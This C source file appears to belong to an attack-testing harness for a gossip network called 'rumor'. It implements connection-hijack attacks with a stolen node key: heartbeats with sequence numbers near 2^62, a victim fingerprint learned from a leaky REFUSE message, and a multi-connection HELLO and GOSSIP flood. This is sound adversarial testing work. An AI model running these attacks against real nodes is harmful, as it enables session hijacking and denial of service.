/*
 * Connection hijack (issue 33): a stolen key speaks to a node's ROUTER on
 * its own, next to the real holder of the key. Each connection is a raw
 * CURVE DEALER with the listed node's keys (--key, --id) to the victim's
 * endpoint (--topology); the frames are built with rumor_net_frame_encode.
 *
 *   conn-heartbeat  HEARTBEATs with seq 2^62 on a connection that never
 *                   says HELLO
 *   conn-hello      a HELLO of a fresh epoch with the victim's fingerprint
 *                   (read from the REFUSE of a first HELLO with a wrong
 *                   one), then HEARTBEATs and GOSSIP with seq 2^62 on
 *   conn-flood      conn-hello on --count connections at once (and
 *                   --count rounds of frames on each)
 *
 * Options: --target=ID (the victim, default 0), --count=N (frames, or
 * connections for conn-flood; default 20), --interval-ms=MS between
 * frames (default 100). Each says on stderr what it sent and how the
 * victim answered.
 */
#include "attack.h"

#include "net/net_impl.h"

#include <sodium.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <zmq.h>

#define AT_HUGE_SEQ  (1ull << 62)
#define AT_ANSWER_MS 1000
#define AT_FLOOD_MAX 256

static uint64_t s_target;
static uint64_t s_count = 20;
static uint64_t s_interval_ms = 100;

static int
s_parse(int argc, char **argv)
{
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        const char *eq = strchr(a, '=');
        if (eq == NULL) {
            attack_say("%s: write --name=value", a);
            return -1;
        }
        size_t n = (size_t)(eq - a);
        uint64_t *dst = n == 8 && strncmp(a, "--target", n) == 0  ? &s_target
                        : n == 7 && strncmp(a, "--count", n) == 0 ? &s_count
                        : n == 13 && strncmp(a, "--interval-ms", n) == 0
                            ? &s_interval_ms
                            : NULL;
        if (dst == NULL) {
            attack_say("unknown option %s", a);
            return -1;
        }
        if (!attack_parse_u64(a, eq + 1, dst))
            return -1;
    }
    return 0;
}

static void
s_pause_ms(uint64_t ms)
{
    struct timespec ts = {(time_t)(ms / 1000), (long)(ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
}

/* What every connection needs: the keys and the victim. */
struct s_env {
    rumor_topology *topo;
    rumor_net_keypair *kp;
    uint32_t self;
    void *ctx;
};

static int
s_env_open(struct s_env *e, const struct rumor_node_opts *opts)
{
    memset(e, 0, sizeof *e);
    struct rumor_diag diag = {0};
    e->self = opts->id;
    if (rumor_topology_load_file(opts->topology, &e->topo, &diag) != RUMOR_OK) {
        attack_say("cannot load topology %s", opts->topology);
        return -1;
    }
    if (s_target >= rumor_topology_nodes(e->topo) || s_target == e->self) {
        attack_say("--target=%llu is not another node of the topology",
                   (unsigned long long)s_target);
        return -1;
    }
    if (rumor_net_keypair_load(opts->key, &e->kp) != RUMOR_OK) {
        attack_say("cannot load key %s", opts->key);
        return -1;
    }
    e->ctx = zmq_ctx_new();
    return e->ctx != NULL ? 0 : -1;
}

static void
s_env_close(struct s_env *e)
{
    if (e->ctx != NULL)
        zmq_ctx_term(e->ctx);
    rumor_net_keypair_destroy(&e->kp);
    rumor_topology_destroy(&e->topo);
}

/* A CURVE DEALER as node self to the target; NULL on failure. */
static void *
s_connect(struct s_env *e)
{
    /* the listed keys are Ed25519; CURVE takes the keys derived from them */
    char server[RUMOR_NET_KEY_TEXT_BYTES + 1];
    if (rumor_net_key_check(rumor_topology_key(e->topo, s_target), server) !=
        RUMOR_OK) {
        attack_say("node %llu has no listed key", (unsigned long long)s_target);
        return NULL;
    }
    void *d = zmq_socket(e->ctx, ZMQ_DEALER);
    int zero = 0;
    zmq_setsockopt(d, ZMQ_LINGER, &zero, sizeof zero);
    zmq_setsockopt(d, ZMQ_CURVE_SERVERKEY, server, RUMOR_NET_KEY_TEXT_BYTES);
    zmq_setsockopt(d,
                   ZMQ_CURVE_PUBLICKEY,
                   net_keypair_curve_public(e->kp),
                   RUMOR_NET_KEY_TEXT_BYTES);
    zmq_setsockopt(d,
                   ZMQ_CURVE_SECRETKEY,
                   net_keypair_secret(e->kp),
                   RUMOR_NET_KEY_TEXT_BYTES);
    if (zmq_connect(d, rumor_topology_endpoint(e->topo, s_target)) != 0) {
        attack_say("cannot connect to %s",
                   rumor_topology_endpoint(e->topo, s_target));
        zmq_close(d);
        return NULL;
    }
    return d;
}

static void
s_send(struct s_env *e,
       void *d,
       uint8_t kind,
       uint64_t seq,
       const void *payload,
       uint32_t len)
{
    struct rumor_net_header h = {.version = RUMOR_NET_VERSION,
                                 .kind = kind,
                                 .sender = e->self,
                                 .seq = seq,
                                 .chunks = 1,
                                 .payload_len = len,
                                 .total_len = len};
    uint8_t frame[RUMOR_NET_HEADER_BYTES + 64];
    size_t n = 0;
    if (rumor_net_frame_encode(&h, payload, frame, sizeof frame, &n) ==
        RUMOR_OK)
        zmq_send(d, frame, n, 0);
}

static void
s_hello(struct s_env *e, void *d, uint64_t fp, uint64_t epoch, uint64_t seq)
{
    struct rumor_net_hello hello = {.fingerprint = fp,
                                    .epoch = epoch,
                                    .max_message = 64u << 20,
                                    .chunk_bytes = RUMOR_NET_CHUNK_MAX};
    uint8_t body[RUMOR_NET_HELLO_BYTES];
    rumor_net_hello_encode(&hello, body);
    s_send(e, d, RUMOR_NET_KIND_HELLO, seq, body, sizeof body);
}

/* The victim's answer to a HELLO (HELLO_OK or REFUSE, with the REFUSE's
 * text), skipping anything else it sends; 0 when none comes by until
 * (rumor_clock_ns time). */
static uint8_t
s_answer(void *d, uint64_t until, char text[RUMOR_NET_REFUSE_TEXT_MAX + 1])
{
    text[0] = '\0';
    while (rumor_clock_ns() < until) {
        zmq_pollitem_t it = {d, 0, ZMQ_POLLIN, 0};
        if (zmq_poll(&it, 1, 20) <= 0)
            continue;
        uint8_t buf[512];
        int n = zmq_recv(d, buf, sizeof buf, 0);
        struct rumor_net_header h;
        const uint8_t *payload = NULL;
        if (n < 0 || rumor_net_frame_decode(buf,
                                            (size_t)n,
                                            RUMOR_NET_CHUNK_MAX,
                                            &h,
                                            &payload) != RUMOR_OK)
            continue;
        if (h.kind == RUMOR_NET_KIND_REFUSE) {
            uint32_t reason = 0;
            rumor_net_refuse_decode(payload, h.payload_len, &reason, text);
            return h.kind;
        }
        if (h.kind == RUMOR_NET_KIND_HELLO_OK)
            return h.kind;
    }
    return 0;
}

static uint64_t
s_answer_by(void)
{
    return rumor_clock_ns() + (uint64_t)AT_ANSWER_MS * 1000000u;
}

static const char *
s_answer_name(uint8_t kind)
{
    return kind == 0 ? "no answer" : rumor_net_kind_name(kind);
}

/* The victim's fingerprint, from the REFUSE of a HELLO with fingerprint
 * 0 and no description (which the node cannot explain otherwise than by
 * naming both fingerprints); false when it does not say. */
static bool
s_learn_fingerprint(struct s_env *e, uint64_t *fp)
{
    void *d = s_connect(e);
    if (d == NULL)
        return false;
    s_hello(e, d, 0, 1, 1);
    char text[RUMOR_NET_REFUSE_TEXT_MAX + 1];
    uint8_t got = s_answer(d, s_answer_by(), text);
    zmq_close(d);
    const char *at = strstr(text, "this node has ");
    char *end = NULL;
    unsigned long long v =
        at != NULL ? strtoull(at + strlen("this node has "), &end, 16) : 0;
    if (got != RUMOR_NET_KIND_REFUSE || at == NULL || end == NULL ||
        end != at + strlen("this node has ") + 16) {
        attack_say("no fingerprint learned (%s: '%s')",
                   s_answer_name(got),
                   text);
        return false;
    }
    *fp = v;
    attack_say("learned node %llu's fingerprint %016llx from its REFUSE",
               (unsigned long long)s_target,
               v);
    return true;
}

static int
s_run_heartbeat(const struct rumor_node_opts *opts)
{
    struct s_env e;
    if (s_env_open(&e, opts) != 0) {
        s_env_close(&e);
        return 1;
    }
    void *d = s_connect(&e);
    for (uint64_t k = 0; d != NULL && k < s_count; k++) {
        s_send(&e, d, RUMOR_NET_KIND_HEARTBEAT, AT_HUGE_SEQ + k, NULL, 0);
        s_pause_ms(s_interval_ms);
    }
    attack_say("sent %llu HEARTBEATs from seq 2^62 to node %llu, no HELLO",
               (unsigned long long)s_count,
               (unsigned long long)s_target);
    if (d != NULL)
        zmq_close(d);
    s_env_close(&e);
    return d != NULL ? 0 : 1;
}

/* HELLO (fresh epoch, the right fingerprint) on each of n connections,
 * then s_count rounds of a HEARTBEAT and a GOSSIP with seq from 2^62 on
 * each. */
static int
s_hello_attack(const struct rumor_node_opts *opts, uint64_t n)
{
    struct s_env e;
    uint64_t fp = 0;
    if (s_env_open(&e, opts) != 0 || !s_learn_fingerprint(&e, &fp)) {
        s_env_close(&e);
        return 1;
    }
    void *d[AT_FLOOD_MAX] = {0};
    n = n < AT_FLOOD_MAX ? n : AT_FLOOD_MAX;
    uint64_t ok = 0, refused = 0, silent = 0;
    for (uint64_t i = 0; i < n; i++) {
        d[i] = s_connect(&e);
        uint64_t epoch = 0;
        randombytes_buf(&epoch, sizeof epoch);
        if (d[i] != NULL)
            s_hello(&e, d[i], fp, epoch, AT_HUGE_SEQ);
    }
    uint64_t by = s_answer_by(); /* one wait for all the connections */
    for (uint64_t i = 0; i < n; i++) {
        char text[RUMOR_NET_REFUSE_TEXT_MAX + 1];
        uint8_t got = d[i] != NULL ? s_answer(d[i], by, text) : 0;
        ok += got == RUMOR_NET_KIND_HELLO_OK;
        refused += got == RUMOR_NET_KIND_REFUSE;
        silent += got == 0;
    }
    attack_say("HELLO with a fresh epoch on %llu connections to node %llu: "
               "%llu HELLO_OK, %llu REFUSE, %llu no answer",
               (unsigned long long)n,
               (unsigned long long)s_target,
               (unsigned long long)ok,
               (unsigned long long)refused,
               (unsigned long long)silent);
    for (uint64_t k = 0; k < s_count; k++) {
        for (uint64_t i = 0; i < n; i++) {
            if (d[i] == NULL)
                continue;
            s_send(&e,
                   d[i],
                   RUMOR_NET_KIND_HEARTBEAT,
                   AT_HUGE_SEQ + 1 + 2 * k,
                   NULL,
                   0);
            s_send(&e,
                   d[i],
                   RUMOR_NET_KIND_GOSSIP,
                   AT_HUGE_SEQ + 2 + 2 * k,
                   "evil",
                   4);
        }
        s_pause_ms(s_interval_ms);
    }
    attack_say("sent %llu HEARTBEAT + GOSSIP pairs with seq past 2^62 on each",
               (unsigned long long)s_count);
    for (uint64_t i = 0; i < n; i++)
        if (d[i] != NULL)
            zmq_close(d[i]);
    s_env_close(&e);
    return 0;
}

static int
s_run_hello(const struct rumor_node_opts *opts)
{
    return s_hello_attack(opts, 1);
}

static int
s_run_flood(const struct rumor_node_opts *opts)
{
    return s_hello_attack(opts, s_count);
}

static const struct attack s_heartbeat = {
    .name = "conn-heartbeat",
    .help = "HEARTBEATs with seq 2^62 without HELLO (--target --count "
            "--interval-ms)",
    .parse = s_parse,
    .run = s_run_heartbeat,
};
ATTACK_REGISTER(s_heartbeat)

static const struct attack s_hello_one = {
    .name = "conn-hello",
    .help = "HELLO of a fresh epoch, then frames with seq 2^62 (--target "
            "--count --interval-ms)",
    .parse = s_parse,
    .run = s_run_hello,
};
ATTACK_REGISTER(s_hello_one)

static const struct attack s_flood = {
    .name = "conn-flood",
    .help = "conn-hello on --count connections at once (--target "
            "--interval-ms)",
    .parse = s_parse,
    .run = s_run_flood,
};
ATTACK_REGISTER(s_flood)
